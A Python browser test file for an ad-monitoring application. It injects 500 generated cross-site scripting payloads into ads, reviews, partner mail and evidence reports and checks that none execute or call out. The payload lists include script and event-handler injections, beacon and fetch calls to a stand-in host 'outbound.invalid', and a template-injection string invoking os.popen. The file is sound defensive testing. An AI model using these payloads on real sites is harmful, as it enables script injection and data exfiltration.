"""Five hundred script payloads in every field that an ad or a person can fill, on pages, in the mail to partners and in
the report of an evidence package: nothing runs, nothing is asked outside.

The browser ignores the content security policy here: escaping has to hold by itself. `test_hostile_input.py` looks
at the markup; this at what a browser makes of it.
"""

from datetime import timedelta
from itertools import product

import pytest
import yaml

from alerts import digest
from labeling import index, sampling
from zorya.domain import ids
from zorya.domain.ads import Contact, ContactKind, Place
from zorya.domain.reviews import Role, Task, TaskReason, Verdict, VerdictLabel
from zorya.evidence.report import report
from zorya.store import campaign_changes, campaigns, postings, reviews

CARRIERS = (
    "<script>{}</script>",
    '"><script>{}</script>',
    "'><script>{}</script>",
    "</textarea><script>{}</script>",
    "</title><script>{}</script>",
    "</style><script>{}</script>",
    "--><script>{}</script>",
    "<svg><script>{}</script></svg>",
    "<img src=x onerror={}>",
    '"><img src=x onerror={}>',
    '" onmouseover={} autofocus onfocus={} x="',
    "<svg onload={}>",
    "<body onload={}>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    '<iframe src="javascript:{}"></iframe>',
    '<a href="javascript:{}" id=x>x</a>',
    '<object data="javascript:{}"></object>',
    "<math><mtext><form><mglyph><style></math><img src onerror={}>",
    "<style>@import '//outbound.invalid/s?{}';</style>",
    "<img src=//outbound.invalid/x?{}>",
    "<link rel=stylesheet href=//outbound.invalid/c?{}>",
    "<base href=//outbound.invalid/?{}>",
    '{{{{ cycler.__init__.__globals__.os.popen("{}") }}}}',
)
ACTS = (
    "hit()",
    "window.hit()",
    "top.hit()",
    "self['hit']()",
    "eval('hit()')",
    "setTimeout(hit)",
    "setTimeout(`hit()`)",
    "alert(1)",
    "Function('hit()')()",
    "[].constructor.constructor('hit()')()",
    "&#104;it()",
    "\\u0068it()",
    "hit&lpar;&rpar;",
    "hit`1`",
    "fetch('//outbound.invalid/f')",
    "new(Image)().src='//outbound.invalid/i'",
    "import('//outbound.invalid/m')",
    "navigator.sendBeacon('//outbound.invalid/b')",
    "document.write('<img/src=//outbound.invalid/w>')",
    "document.body.append(hit())",
)
PAYLOADS = [carrier.replace("{}", act) for carrier, act in product(CARRIERS, ACTS)]
EVERYTHING = "\n".join(PAYLOADS)
LISTEN = "window.hits = 0; window.hit = () => { window.hits += 1; return ''; };"
FOREIGN = """() => [...document.querySelectorAll('*')].filter((one) =>
    [...one.attributes].some((a) => /^on/i.test(a.name) || /^\\s*javascript:/i.test(a.value) || /outbound/.test(
        ['src', 'href', 'action', 'data'].includes(a.name) ? a.value : ''))
    || (one.matches('script') && !one.src.includes('/static/'))
    || one.matches('iframe, object, embed, base, style')).length"""


def test_there_are_five_hundred_different_payloads():
    assert len(set(PAYLOADS)) == 500


@pytest.fixture
def poisoned(town):
    """A campaign of two ads, with every payload in each of its fields, judged and merged in the same words."""
    places = (Place(EVERYTHING, EVERYTHING, "nl", "destination"),)
    contact = Contact(ContactKind.TELEGRAM, f"value {EVERYTHING}", f"raw {EVERYTHING}")
    fields = {"title": EVERYTHING, "body": EVERYTHING, "employer": EVERYTHING, "places": places}
    fields |= {"contacts": (contact,), "words": "<script>hit()|onerror=hit()"}
    homes = [town.ad(0.999, **fields, native_id=f"{name}{EVERYTHING}") for name in ("one", "two")]
    with town.store.writing() as connection:
        pair = (homes[0], homes[1])
        live = campaign_changes.merge(connection, pair, at=town.at, by="anna", reason=EVERYTHING).campaign_id
        posting = campaigns.members(connection, live)[0].posting_id
        version = postings.current(connection, posting)
        at = town.at - timedelta(days=1)
        postings.record(connection, version.posting, capture_id=None, seen_at=at)
        task = Task(ids.task_id(live, 1), live, 1, TaskReason.RISK, 1.0, at)
        reviews.add_task(connection, task)
        for analyst in ("lena", EVERYTHING):
            name = ids.verdict_id(task.id, analyst, at)
            told = {"rationale": EVERYTHING, "severity": 2, "indicators": (EVERYTHING,)}
            reviews.add_verdict(connection, Verdict(name, task.id, live, analyst, VerdictLabel.CONCERN, at, **told))
    sampling.run(town.store, town.settings, as_of=town.at)
    index.run(town.store, town.settings, as_of=town.at)
    town.person("lena", Role.LEAD)
    with town.store.reading() as connection:
        tasks = reviews.tasks_of_campaign(connection, live)
    return town, live, posting, tasks[0].id


def test_nothing_runs_and_nothing_is_asked_outside(poisoned, serve, browser):
    town, campaign, posting, task = poisoned
    address = serve(town)
    context = browser.new_context(bypass_csp=True, java_script_enabled=True)
    context.add_init_script(LISTEN)
    page, outside, dialogs = context.new_page(), [], []
    page.on("request", lambda request: None if request.url.startswith(address) else outside.append(request.url))
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.goto(f"{address}/login")
    page.fill("[name=name]", "lena")
    page.fill("[name=password]", "a long invented password")
    with page.expect_navigation():
        page.click("main button.primary")
    pages = [f"/ads/{posting}{tab}" for tab in ("", "/evidence", "/history", "/similar")]
    pages += [f"/campaigns/{campaign}?ad={posting}", f"/tasks/{task}", "/search?q=script", "/search?verdict=concern"]
    pages += ["/insights", "/queue", "/", "/audit", "/proposals"]
    shown = 0
    for path in pages:
        page.goto(f"{address}{path}")
        assert page.evaluate("window.hits") == 0, path
        assert page.evaluate(FOREIGN) == 0, path
        shown += "<script>hit()</script>" in page.inner_text("body")
    assert shown >= 5
    for payload in PAYLOADS[:: 3 * len(CARRIERS) + 1]:
        page.goto(f"{address}/search")
        page.fill("[name=q]", payload[:200])
        with page.expect_navigation():
            page.click("form[role=search] button.primary")
        assert page.evaluate("window.hits") == 0, payload
        assert page.evaluate(FOREIGN) == 0, payload
    context.close()
    assert (outside, dialogs) == ([], [])


def _still(browser, html):
    """What a document does that is opened from a file: nothing of it may run, nothing be asked for."""
    page, asked = browser.new_page(), []
    page.add_init_script(LISTEN)
    page.on("dialog", lambda dialog: (asked.append("a dialog"), dialog.dismiss()))

    def answer(route):
        if route.request.url == "http://opened.invalid/":
            route.fulfill(body=html, content_type="text/html; charset=utf-8")
        else:
            asked.append(route.request.url)
            route.abort()

    page.route("**/*", answer)
    page.goto("http://opened.invalid/")
    hits, shown = page.evaluate("window.hits"), page.inner_text("body")
    page.close()
    return [url for url in asked if not url.endswith("/favicon.ico")], hits, shown


@pytest.mark.parametrize("language", ["en", "uk"])
def test_the_mail_of_a_poisoned_campaign_runs_nothing(poisoned, browser, language):
    town = poisoned[0]
    folder = town.settings.home / "partners"
    folder.mkdir()
    spec = {"name": PAYLOADS[0], "org_type": "ngo", "language": language, "tlp_ceiling": "TLP:AMBER"}
    spec |= {"cadence": {"every": "daily", "hour": 0}, "channels": [{"kind": "folder"}]}
    (folder / "la-strada.yml").write_text(yaml.safe_dump(spec), encoding="utf-8")
    mail = digest.preview(town.store, town.settings, "la-strada", as_of=town.at)
    asked, hits, shown = _still(browser, mail.html)
    assert (asked, hits) == ([], 0)
    assert "hit()" in shown
    assert "\n" not in mail.subject


@pytest.mark.parametrize("language", ["en", "uk"])
def test_the_report_of_a_poisoned_ad_runs_nothing(browser, language):
    at, raw = "2026-11-23T09:00:00+00:00", {"raw": EVERYTHING}
    wording = {"version": EVERYTHING, "capture": None, "seen_at": at, "language": "en", "posted_on": EVERYTHING}
    wording |= {"title": EVERYTHING, "body": EVERYTHING, "employer": EVERYTHING, "images": [EVERYTHING]}
    wording |= {"places": [raw], "pay": raw, "contacts": [raw]}
    ad = {"posting": EVERYTHING, "source": EVERYTHING, "url": EVERYTHING, "first_seen": at, "last_seen": at}
    ad |= {"gone_at": at, "campaign": None, "versions": [wording, wording | {"body": EVERYTHING[::-1], "title": "x"}]}
    tied = {"posting": EVERYTHING, "tie": EVERYTHING, "tied_to": EVERYTHING, "because": EVERYTHING, "joined_at": at}
    tie = {"campaign": EVERYTHING, "size": 1, "begun_at": at, "ads": [tied]}
    manifest = {"made_at": at, "made_by": EVERYTHING, "reason": EVERYTHING, "asked_for": [EVERYTHING]}
    manifest |= {"software": EVERYTHING, "authorities": [EVERYTHING], "not_stamped": [EVERYTHING]}
    drawn = report(
        manifest | {"roots": [], "captures": []}, {"ads": [ad], "campaigns": [tie], "custody": []}, {}, language
    )
    asked, hits, shown = _still(browser, drawn.decode())
    assert (asked, hits) == ([], 0)
    assert shown.count("<script>hit()</script>") > 10


def test_control_the_same_payloads_do_run_where_nobody_escapes_them(browser):
    page, asked = browser.new_page(), []
    page.add_init_script(LISTEN)
    page.on("dialog", lambda dialog: dialog.dismiss())
    bare = "<body>" + "\n".join(PAYLOADS[:14] + PAYLOADS[160:170] + PAYLOADS[420:422])

    def answer(route):
        asked.append(route.request.url)
        if route.request.is_navigation_request():
            route.fulfill(body=bare, content_type="text/html")
        else:
            route.abort()

    page.route("**/*", answer)
    page.goto("http://plain.invalid/")
    assert page.evaluate("window.hits") > 0
    assert page.evaluate(FOREIGN) > 0
    assert any("outbound.invalid" in url for url in asked)
    page.close()
